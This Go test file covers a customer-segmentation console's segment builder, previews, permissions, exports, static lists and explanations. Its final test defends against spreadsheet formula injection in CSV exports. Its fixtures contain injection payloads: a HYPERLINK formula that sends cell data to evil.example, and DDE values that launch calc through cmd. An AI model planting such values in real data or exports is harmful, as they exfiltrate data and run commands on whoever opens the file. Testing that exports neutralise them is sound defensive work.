package ui_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"html/template"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/touchbase/touchbase"
	"github.com/touchbase/touchbase/store"
	"github.com/touchbase/touchbase/storetest"
)

// segmentID reads the id of the segment a save redirected to.
func segmentID(t *testing.T, p page) int64 {
	t.Helper()
	loc := p.header.Get("Location")
	if p.status != http.StatusSeeOther || !strings.HasPrefix(loc, "/ui/segments/") {
		t.Fatalf("save: status %d, Location %q: %.600s", p.status, loc, p.body)
	}
	id, err := strconv.ParseInt(strings.TrimPrefix(loc, "/ui/segments/"), 10, 64)
	if err != nil {
		t.Fatalf("Location %q", loc)
	}
	return id
}

// htmx is the headers of an htmx request aimed at target.
func htmx(target string) []string {
	return []string{"HX-Request", "true", "HX-Target", target}
}

var previewCount = regexp.MustCompile(`id="preview-count"><strong>([0-9,]+)</strong>`)

// countWith counts Acme's customers with at least min orders, from the
// store rather than the engine.
func countWith(t *testing.T, e *env, min int) int {
	t.Helper()
	cs, _, err := e.store.ListCustomers(context.Background(), e.acme.ID, touchbase.CustomerFilter{MinOrders: min, Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	return len(cs)
}

// TestSegmentBuilder covers the list, the builder's live preview and
// saving: errors with their position, counts, warnings, conflicts,
// references and cycles, and what analysts may do.
func TestSegmentBuilder(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s)
		c := e.client()
		csrf := c.login("owner@example.com")

		p := c.do("GET", "/ui/segments", nil)
		if p.status != 200 || !strings.Contains(p.body, `id="segments-empty"`) || !strings.Contains(p.body, "Create your first segment") ||
			!strings.Contains(p.body, "/ui/segments/new?description=") {
			t.Errorf("empty list: status %d: %.500s", p.status, p.body)
		}
		p = c.do("GET", "/ui/segments/new?name=Lapsed&text="+url.QueryEscape("orders >= 1 and last_order_at < 180d ago"), nil)
		if p.status != 200 || !strings.Contains(p.body, `value="Lapsed"`) || !strings.Contains(p.body, `id="preview-count"`) {
			t.Errorf("builder from an example: status %d: %.500s", p.status, p.body)
		}

		preview := func(text string) page {
			t.Helper()
			return c.post("/ui/segments/preview", csrf, url.Values{"text": {text}})
		}
		t.Run("a parse error shows its line and column under the text", func(t *testing.T) {
			p := preview("orders >= 1 and\n  revenue >")
			if p.status != 200 || !strings.Contains(p.body, `id="preview-error"`) || !strings.Contains(p.body, "line 2, column 12") {
				t.Fatalf("status %d: %s", p.status, p.body)
			}
			// The line, then a caret under column 12.
			if !strings.Contains(p.body, "  revenue &gt;\n<span class=\"caret\">           ^</span>") {
				t.Errorf("no caret under the column: %s", p.body)
			}
		})
		t.Run("a type error", func(t *testing.T) {
			if p := preview(`orders > "many"`); !strings.Contains(p.body, `id="preview-error"`) || !strings.Contains(p.body, "line 1, column") {
				t.Errorf("%s", p.body)
			}
		})
		t.Run("nothing typed", func(t *testing.T) {
			if p := preview("  "); !strings.Contains(p.body, `id="preview-empty"`) {
				t.Errorf("%s", p.body)
			}
		})
		t.Run("the count, a sample and a suggestion", func(t *testing.T) {
			p := preview("orders >= 1 or fisrt_name = \"Nobody\"")
			m := previewCount.FindStringSubmatch(p.body)
			if m == nil || m[1] != strconv.Itoa(countWith(t, e, 1)) {
				t.Fatalf("count %v, want %d: %s", m, countWith(t, e, 1), p.body)
			}
			if n := strings.Count(p.body, `href="/ui/customers/`); n != 10 {
				t.Errorf("sample of %d, want 10", n)
			}
			if !strings.Contains(p.body, `did you mean &#34;first_name&#34;?`) {
				t.Errorf("no suggestion: %s", p.body)
			}
		})

		buyers := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Buyers"}, "description": {"ordered once"}, "text": {"orders>=1"}}))
		t.Run("saved segments are listed with their size", func(t *testing.T) {
			p := c.do("GET", "/ui/segments", nil)
			if !strings.Contains(p.body, `id="segments-table"`) || !strings.Contains(p.body, "orders &gt;= 1") ||
				!strings.Contains(p.body, ">"+strconv.Itoa(countWith(t, e, 1))+"<") {
				t.Errorf("%s", p.body)
			}
		})
		t.Run("save errors come back on the form", func(t *testing.T) {
			for _, tc := range []struct {
				name   string
				form   url.Values
				status int
				want   string
			}{
				{"parse error", url.Values{"name": {"Broken"}, "text": {"orders >="}}, 400, "line 1, column 10"},
				{"no name", url.Values{"name": {""}, "text": {"orders >= 1"}}, 400, "give the segment a name"},
				{"no definition", url.Values{"name": {"Empty"}, "text": {""}}, 400, "needs a definition"},
				{"name taken", url.Values{"name": {"Buyers"}, "text": {"orders >= 2"}}, 409, "exists already"},
				{"unknown segment", url.Values{"name": {"X"}, "text": {`in segment "nope"`}}, 400, "unknown segment &#34;nope&#34;"},
			} {
				t.Run(tc.name, func(t *testing.T) {
					p := c.post("/ui/segments", csrf, tc.form)
					if p.status != tc.status || !strings.Contains(p.body, `id="segment-error"`) || !strings.Contains(p.body, tc.want) {
						t.Errorf("status %d, want %d with %q: %s", p.status, tc.status, tc.want, p.body)
					}
					if tc.form.Get("text") != "" && !strings.Contains(p.body, ">"+template.HTMLEscapeString(tc.form.Get("text"))+"</textarea>") {
						t.Errorf("the text typed is lost: %s", p.body)
					}
				})
			}
		})

		vip := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"VIP"}, "text": {`in segment "Buyers" and revenue > 100`}}))
		t.Run("a cycle is refused", func(t *testing.T) {
			p := c.post("/ui/segments/"+strconv.FormatInt(buyers, 10), csrf, url.Values{"name": {"Buyers"}, "text": {`in segment "VIP"`}})
			if p.status != 400 || !strings.Contains(p.body, "refers to itself through") {
				t.Errorf("status %d: %s", p.status, p.body)
			}
		})
		t.Run("delete is refused while another segment uses it", func(t *testing.T) {
			p := c.do("POST", "/ui/segments/"+strconv.FormatInt(buyers, 10)+"/delete", url.Values{"csrf": {csrf}},
				append(htmx(""), "Origin", e.url, "Sec-Fetch-Site", "same-origin")...)
			if p.status != http.StatusConflict || p.header.Get("HX-Retarget") != "#flash" ||
				!strings.Contains(p.body, "is used by segment &#34;VIP&#34;") {
				t.Errorf("status %d: %s", p.status, p.body)
			}
		})
		t.Run("edit", func(t *testing.T) {
			p := c.do("GET", "/ui/segments/"+strconv.FormatInt(buyers, 10)+"/edit", nil)
			if p.status != 200 || !strings.Contains(p.body, ">orders &gt;= 1</textarea>") || !strings.Contains(p.body, `id="preview-count"`) {
				t.Errorf("status %d: %.500s", p.status, p.body)
			}
			p = c.post("/ui/segments/"+strconv.FormatInt(buyers, 10), csrf, url.Values{"name": {"Buyers"}, "description": {"twice"}, "text": {"orders >= 2"}})
			if segmentID(t, p) != buyers {
				t.Fatal("saved another segment")
			}
			if p := c.do("GET", "/ui/segments/"+strconv.FormatInt(buyers, 10), nil); !strings.Contains(p.body, ">"+strconv.Itoa(countWith(t, e, 2))+"</p>") {
				t.Errorf("after the edit, want %d members: %.2000s", countWith(t, e, 2), p.body)
			}
		})
		t.Run("analysts read and try, but do not save", func(t *testing.T) {
			a := e.client()
			acsrf := a.login("analyst@example.com")
			p := a.do("GET", "/ui/segments/"+strconv.FormatInt(vip, 10)+"/edit", nil)
			if p.status != 200 || !strings.Contains(p.body, `id="read-only"`) || strings.Contains(p.body, `id="segment-save"`) {
				t.Errorf("analyst's builder: %d: %.500s", p.status, p.body)
			}
			if p := a.post("/ui/segments/preview", acsrf, url.Values{"text": {"orders >= 1"}}); !strings.Contains(p.body, `id="preview-count"`) {
				t.Errorf("analyst's preview: %s", p.body)
			}
			if p := a.post("/ui/segments", acsrf, url.Values{"name": {"Mine"}, "text": {"orders >= 1"}}); p.status != http.StatusForbidden {
				t.Errorf("analyst's save: %d", p.status)
			}
			if p := a.post("/ui/segments/"+strconv.FormatInt(vip, 10)+"/delete", acsrf, nil); p.status != http.StatusForbidden {
				t.Errorf("analyst's delete: %d", p.status)
			}
		})
		t.Run("delete", func(t *testing.T) {
			p := c.post("/ui/segments/"+strconv.FormatInt(vip, 10)+"/delete", csrf, nil)
			if p.status != http.StatusSeeOther || p.header.Get("Location") != "/ui/segments" {
				t.Fatalf("status %d: %s", p.status, p.body)
			}
			if p := c.do("GET", "/ui/segments/"+strconv.FormatInt(vip, 10), nil); p.status != 404 {
				t.Errorf("deleted segment: %d", p.status)
			}
		})
	})
}

// TestSegmentDetail covers a segment's page: members paged by cursor,
// exports, the size chart's data, and another workspace's segment.
func TestSegmentDetail(t *testing.T) {
	e := newEnv(t, storetest.OpenSQLite(t))
	c := e.client()
	csrf := c.login("owner@example.com")
	all := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Everyone"}, "text": {"events >= 0"}}))
	path := "/ui/segments/" + strconv.FormatInt(all, 10)

	p := c.do("GET", path, nil)
	for _, want := range []string{`id="segment-count">61<`, `data-chart="segment-size"`, `data-chart-json="{&#34;at&#34;:[`,
		`id="members-table"`, path + `/export.csv?hashed=1`, `id="segment-definition"><code>events &gt;= 0</code>`} {
		if !strings.Contains(p.body, want) {
			t.Errorf("segment page lacks %q", want)
		}
	}
	if n := strings.Count(p.body, `<a class="person"`); n != 50 {
		t.Errorf("first page: %d members, want 50", n)
	}
	// The dashboard lists the segment with its size.
	if d := c.do("GET", "/ui/", nil); !strings.Contains(d.body, `id="dashboard-segments"`) ||
		!strings.Contains(d.body, `<a href="`+path+`">Everyone</a></th>`) || !strings.Contains(d.body, `<td class="num">61</td>`) {
		t.Errorf("the dashboard does not list the segment with its 61 members")
	}
	next := regexp.MustCompile(`id="members-next" href="([^"]+)"`).FindStringSubmatch(p.body)
	if next == nil {
		t.Fatal("no next page")
	}
	p = c.do("GET", strings.ReplaceAll(next[1], "&amp;", "&"), nil, htmx("members-panel")...)
	if strings.Contains(p.body, "<html") || strings.Count(p.body, `<a class="person"`) != 11 || strings.Contains(p.body, `id="members-next"`) {
		t.Errorf("second page fragment: %.1000s", p.body)
	}

	for _, hashed := range []bool{false, true} {
		u := path + "/export.csv"
		if hashed {
			u += "?hashed=1"
		}
		p := c.do("GET", u, nil)
		rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
		if err != nil || p.header.Get("Content-Type") != "text/csv; charset=utf-8" || len(rows) != 62 {
			t.Fatalf("export (hashed %v): %v, %d rows, %q", hashed, err, len(rows), p.header.Get("Content-Type"))
		}
		want := "id,user_id,email,phone"
		if hashed {
			want += ",email_sha256,phone_sha256"
		}
		if got := strings.Join(rows[0], ","); got != want {
			t.Errorf("header %q, want %q", got, want)
		}
	}

	// Beta's owner (an analyst there) does not see Acme's segment.
	b := e.client()
	b.login("owner@example.com")
	if p := b.post("/ui/workspace", b.do("GET", "/ui/", nil).csrf(t), url.Values{"workspace_id": {strconv.FormatInt(e.beta.ID, 10)}}); p.status != http.StatusSeeOther {
		t.Fatalf("switch: %d", p.status)
	}
	for _, u := range []string{path, path + "/export.csv", path + "/edit"} {
		if p := b.do("GET", u, nil); p.status != 404 {
			t.Errorf("%s from Beta: %d", u, p.status)
		}
	}
}

// multipartPost posts a list form with an optional CSV file, as htmx does.
func (c *client) multipartPost(path, csrf, ids, csvText string) page {
	c.e.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	mw.WriteField("csrf", csrf)
	mw.WriteField("ids", ids)
	if csvText != "" {
		fw, _ := mw.CreateFormFile("csv", "people.csv")
		io.WriteString(fw, csvText)
	}
	mw.Close()
	req, _ := http.NewRequest("POST", c.e.url+path, &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	for _, h := range [][2]string{{"Origin", c.e.url}, {"Sec-Fetch-Site", "same-origin"}, {"HX-Request", "true"}, {"HX-Target", "members-panel"}} {
		req.Header.Set(h[0], h[1])
	}
	resp, err := c.http.Do(req)
	if err != nil {
		c.e.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return page{resp.StatusCode, resp.Header, string(b)}
}

// TestStaticList creates a list, adds people by email and user id, removes
// one by CSV, and sees the list's members in a segment that uses it.
func TestStaticList(t *testing.T) {
	e := newEnv(t, storetest.OpenSQLite(t))
	c := e.client()
	csrf := c.login("marketer@example.com")
	press := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Press"}, "kind": {"static"}}))
	path := "/ui/segments/" + strconv.FormatInt(press, 10)
	if p := c.do("GET", path, nil); !strings.Contains(p.body, `id="members-empty"`) || !strings.Contains(p.body, `id="list-add"`) {
		t.Errorf("new list: %.500s", p.body)
	}

	p := c.multipartPost(path+"/members", csrf, "ada.lovelace@example.com\ncust-001\n nobody@example.com \n", "")
	if p.status != 200 || !strings.Contains(p.body, "Added 2 customers.") || !strings.Contains(p.body, "<code>nobody@example.com</code>") ||
		!strings.Contains(p.body, "Ada Lovelace") || strings.Contains(p.body, "<html") {
		t.Errorf("add: %d: %s", p.status, p.body)
	}
	p = c.multipartPost(path+"/members/remove", csrf, "", "email,name\nada.lovelace@example.com,Ada\n")
	if p.status != 200 || !strings.Contains(p.body, "Removed 1 customer.") || strings.Contains(p.body, "Ada Lovelace") {
		t.Errorf("remove by CSV: %d: %s", p.status, p.body)
	}
	p = c.multipartPost(path+"/members", csrf, "", "name\nAda\n")
	if p.status != 200 || !strings.Contains(p.body, "the header names no column") {
		t.Errorf("bad CSV: %d: %s", p.status, p.body)
	}
	p = c.multipartPost(path+"/members", csrf, "", "")
	if !strings.Contains(p.body, "type emails or user ids") {
		t.Errorf("nothing given: %s", p.body)
	}

	// A segment over the list sees its one member.
	press2 := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Press buyers"}, "text": {`in segment "Press" or orders >= 100`}}))
	if p := c.do("GET", "/ui/segments/"+strconv.FormatInt(press2, 10), nil); !strings.Contains(p.body, `id="segment-count">1<`) {
		t.Errorf("segment over the list: %.1500s", p.body)
	}
	a := e.client()
	acsrf := a.login("analyst@example.com")
	if p := a.multipartPost(path+"/members", acsrf, "cust-002", ""); p.status != http.StatusForbidden {
		t.Errorf("analyst adds: %d", p.status)
	}
}

// TestCustomerSegmentsAndExplain covers the 360 page's segments card and
// the explanation fragment.
func TestCustomerSegmentsAndExplain(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s)
		c := e.client()
		csrf := c.login("owner@example.com")
		buyers := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Buyers"}, "text": {`orders >= 2 and country = "GB"`}}))
		big := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Big spenders"}, "text": {`revenue > 10000`}}))
		ada := "/ui/customers/" + strconv.FormatInt(e.ada, 10)

		p := c.do("GET", ada, nil)
		if !strings.Contains(p.body, `id="customer-segments"`) || !strings.Contains(p.body, "</span> Buyers</a>") || strings.Contains(p.body, "</span> Big spenders</a>") ||
			!strings.Contains(p.body, "entered ") || !strings.Contains(p.body, `<option value="`+strconv.FormatInt(big, 10)+`">Big spenders</option>`) {
			t.Errorf("segments card: %.3000s", p.body[strings.Index(p.body, `id="segments"`):])
		}

		p = c.do("GET", ada+"/explain?segment="+strconv.FormatInt(buyers, 10), nil, htmx("explain")...)
		for _, want := range []string{"✓ In <strong>Buyers</strong>", `<code>orders &gt;= 2</code>`, `<dt><code>orders</code></dt><dd>3</dd>`,
			`<dt><code>country</code></dt><dd>&#34;GB&#34;</dd>`} {
			if !strings.Contains(p.body, want) {
				t.Errorf("explanation lacks %q: %s", want, p.body)
			}
		}
		p = c.do("GET", ada+"/explain?segment="+strconv.FormatInt(big, 10), nil, htmx("explain")...)
		if !strings.Contains(p.body, "✗ Not in <strong>Big spenders</strong>") || !strings.Contains(p.body, `explain-node fails`) {
			t.Errorf("explanation of a miss: %s", p.body)
		}
		if p := c.do("GET", "/ui/customers/"+strconv.FormatInt(e.betaID, 10)+"/explain?segment="+strconv.FormatInt(buyers, 10), nil, htmx("explain")...); p.status != 404 {
			t.Errorf("another workspace's customer: %d", p.status)
		}
	})
}

// TestSegmentExportFormulas downloads the console's export of customers
// whose identifiers are formulas: each such cell arrives as text (a
// leading quote), an E.164 phone as it is.
func TestSegmentExportFormulas(t *testing.T) {
	e := newEnv(t, storetest.OpenSQLite(t))
	const (
		userID = `=HYPERLINK("https://evil.example/?"&A2,"open")`
		email  = `=cmd|'/ccalc'!a0@evil.example`
		phone  = "+491701234567"
	)
	e.ingest(e.acme.ID, []map[string]any{
		{"type": "identify", "messageId": "evil-1", "userId": userID, "traits": map[string]any{"email": email, "phone": phone, "plan": "evil"}},
		{"type": "identify", "messageId": "evil-2", "userId": "-2+3+cmd|'/ccalc'!A0", "traits": map[string]any{"plan": "evil"}},
	})
	c := e.client()
	csrf := c.login("owner@example.com")
	id := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Evil"}, "text": {`plan = "evil"`}}))
	p := c.do("GET", "/ui/segments/"+strconv.FormatInt(id, 10)+"/export.csv?hashed=1", nil)
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("export: %v, %d rows: %s", err, len(rows), p.body)
	}
	if got := rows[1][1:4]; got[0] != "'"+userID || got[1] != "'"+email || got[2] != phone {
		t.Errorf("user_id, email, phone = %q, want %q", got, []string{"'" + userID, "'" + email, phone})
	}
	if got := rows[2][1]; got != "'-2+3+cmd|'/ccalc'!A0" {
		t.Errorf("user_id %q, want it behind a quote", got)
	}
}
